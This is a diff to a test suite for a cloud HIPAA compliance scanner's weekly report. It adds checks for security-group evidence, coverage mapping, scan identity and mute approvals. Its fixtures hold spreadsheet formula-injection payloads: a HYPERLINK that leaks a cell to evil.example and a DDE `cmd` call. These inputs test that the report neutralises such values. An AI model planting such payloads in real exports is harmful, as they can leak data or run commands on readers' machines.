@@ -10,6 +10,7 @@ import { Ajv } from 'ajv';
 import { beforeAll, describe, expect, it } from 'vitest';
 import { HIPAA_SAFEGUARDS } from '../core/hipaa.js';
 import { SEVERITIES, type Finding } from '../core/model.js';
+import type { MuteRule } from '../core/mutes.js';
 import type { ScanStore } from '../core/store/scans.js';
 import { HIPAA_STATUS_LABELS, type HipaaStatus } from './data.js';
 import { buildSampleStore, SAMPLE_MUTES, sampleScan, type SampleOptions } from './fixtures.js';
@@ -26,10 +27,18 @@ interface ReportJson {
   trend: Array<{ week: string; open: number | null }>;
   hipaa: Array<{ safeguard: string; pass: number; fail: number; muted: number; error: number; notAssessable: number; status: HipaaStatus }>;
   coverage: { gaps: unknown[] };
-  mutes: { rules: Array<{ index: number; status: string; muted: number; wouldMatch: number }> };
+  mutes: { rules: Array<{ index: number; rule: MuteRule; status: string; muted: number; wouldMatch: number }> };
   findings: Array<Finding & { scanId: string | null; lifecycle: { state: string } | null }>;
+  hipaaCoverage: { items: Array<{ ref: string; controls: string[] }>; notAssessed: number };
+  scope: { accounts: Array<{ account: string; identity?: { principal: string; via: string } }> };
+  scans: Array<{ scanId: string; runner?: { kind: string; function?: string } }>;
 }
 
+const SG_RULES = [
+  { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0', Description: 'temporary vendor access' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
+  { IpProtocol: 'tcp', FromPort: 443, ToPort: 443, IpRanges: [{ CidrIp: '10.0.0.0/8' }] },
+];
+let sgId: string;
 let dir: string;
 let store: ScanStore;
 let out: WeeklyEvidence;
@@ -55,7 +64,15 @@ beforeAll(async () => {
   if (victim === undefined) throw new Error('fixture has no failing result');
   victim.resource.name = '=HYPERLINK("https://evil.example/?x="&A1,"click")';
   victim.message = '@SUM(1+1) -2 +cmd|" /C calc"!A0';
-  await store.recordScan({ ...scan, scanId: `${scan.scanId}-late`, finishedAt: new Date(Date.parse(scan.finishedAt) + 3_600_000).toISOString() });
+  // A security group as the SSH control records it: the identifiers first, the deciding rules last.
+  const sg = scan.results.find((f) => f.status === 'FAIL' && f.controlId === 'aws-ssh-not-open' && f !== victim);
+  if (sg === undefined) throw new Error('fixture has no failing SSH result');
+  sg.evidence = [{ api: 'ec2:DescribeSecurityGroups', region: sg.region, readAt: NOW.toISOString(), fields: { GroupId: 'sg-0a0a0a0a0a0a00004', GroupName: 'a-rather-long-security-group-name-for-the-jump-hosts', VpcId: 'vpc-0b22c0ffee5ec0002', IpPermissions: SG_RULES } }];
+  sgId = sg.id;
+  // Who read the account and where Ward ran, as scans record them.
+  const targets = scan.targets.map((t) => ({ ...t, identity: { principal: `arn:aws:sts::${t.account}:assumed-role/WardAuditRole/ward-scan`, via: `sts:AssumeRole arn:aws:iam::${t.account}:role/WardAuditRole` } }));
+  const runner = { kind: 'lambda' as const, function: 'arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan' };
+  await store.recordScan({ ...scan, targets, runner, scanId: `${scan.scanId}-late`, finishedAt: new Date(Date.parse(scan.finishedAt) + 3_600_000).toISOString() });
   out = await buildWeeklyEvidence(store, { week: WEEK, organization: 'Acme Health — Клиника', mutes: SAMPLE_MUTES, now: NOW });
   report = JSON.parse(readFileSync(join(dir, out.keys.json), 'utf8')) as ReportJson;
   pdfPath = join(dir, out.keys.pdf);
@@ -87,6 +104,9 @@ describe('report.json', () => {
     expect(report.coverage.gaps).toHaveLength(1);
     expect(report.mutes.rules.map((m) => m.status)).toEqual(['in-force', 'expired']);
     expect(report.mutes.rules[0]?.muted).toBe(report.findings.filter((f) => f.status === 'MUTED').length);
+    // Who approved the accepted risk, and where it is recorded, on the rule and on each muted finding.
+    expect(report.mutes.rules[0]?.rule).toMatchObject({ approvedBy: 'Security Officer J. Doe', ticket: 'RISK-142' });
+    expect(report.findings.filter((f) => f.status === 'MUTED').every((f) => f.mute?.approvedBy === 'Security Officer J. Doe' && f.mute.ticket === 'RISK-142')).toBe(true);
   });
 });
 
@@ -147,12 +167,50 @@ describe('report.pdf, read back with pdftotext', () => {
     expect(text).toContain('=HYPERLINK(');
   });
 
+  it('shows the deciding evidence fields whole: a security group\'s IpPermissions', () => {
+    expect(report.findings.find((f) => f.id === sgId)?.status).toBe('FAIL');
+    const text = pdftotext([]).replace(/\s+/g, '');
+    expect(text).toContain(`IpPermissions=${JSON.stringify(SG_RULES).replace(/\s+/g, '')}`);
+    // The identifiers follow, after the deciding fields.
+    expect(text).toContain('GroupId=sg-0a0a0a0a0a0a00004');
+    expect(text.indexOf('IpPermissions=')).toBeLessThan(text.indexOf('GroupId=sg-0a0a0a0a0a0a00004'));
+  });
+
   it('says what could not be assessed, NOT_ASSESSABLE as such', () => {
     const text = pdftotext([]);
     expect(text).toContain('Could not be assessed');
     expect(text).toContain('AccessDeniedException');
     expect(text).toContain('NOT ASSESSABLE');
     expect(text).toContain('Minimum log retention used: 365 days');
+  });
+
+  it('maps the whole HIPAA Security Rule: what Ward assesses, what it does not, and why each threshold', () => {
+    const text = pdftotext(['-layout']);
+    expect(text).toContain('HIPAA coverage map: assessed and not');
+    expect(text).toMatch(/164\.308\(a\)\(7\)\(ii\)\(A\)\s+Data backup plan\s+R\s+Not assessed/);
+    expect(text).toMatch(/164\.312\(a\)\(2\)\(iv\)\s+Encryption and decryption\s+A\s+Assessed\s+aws-ebs-encryption-by-default/);
+    expect(text).toContain('minLogRetentionDays (profile: hipaa-6y): 2190 days.');
+    expect(report.hipaaCoverage.items.find((i) => i.ref === '164.312(b)')?.controls).toContain('aws-cloudtrail-all-regions');
+    expect(report.hipaaCoverage.notAssessed).toBeGreaterThan(40);
+  });
+
+  it('says who read each account and where Ward ran, and when a scan did not record it', () => {
+    const text = pdftotext([]).replace(/\s+/g, ' ');
+    const late = report.scope.accounts.find((a) => a.identity !== undefined);
+    expect(late?.identity?.principal).toMatch(/^arn:aws:sts::\d{12}:assumed-role\/WardAuditRole\/ward-scan$/);
+    expect(report.scope.accounts.filter((a) => a.identity === undefined)).toHaveLength(2);
+    expect(text).toContain(`Read as ${late?.identity?.principal ?? '?'}, via sts:AssumeRole`);
+    expect(text).toContain('Read as: not recorded by this scan');
+    expect(report.scans.find((s) => s.runner !== undefined)?.runner).toEqual({ kind: 'lambda', function: 'arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan' });
+    expect(text).toContain('Ran in AWS Lambda arn:aws:lambda:eu-west-1:111122223333:function:ward-prod-scan');
+  });
+
+  it('numbers mutes from 1 and shows who approved each and its ticket', () => {
+    const text = pdftotext(['-layout']);
+    expect(text).toMatch(/^\s*1\s+controls aws-log-retention/m);
+    expect(text).toMatch(/^\s*2\s+controls aws-ssh-not-open/m);
+    expect(text).toContain('approved by Security Officer J. Doe');
+    expect(text).toContain('Accepted risk #1 until 2099-12-31, owner platform@example.com, approved by Security Officer J. Doe, ticket RISK-142');
   });
 });
 
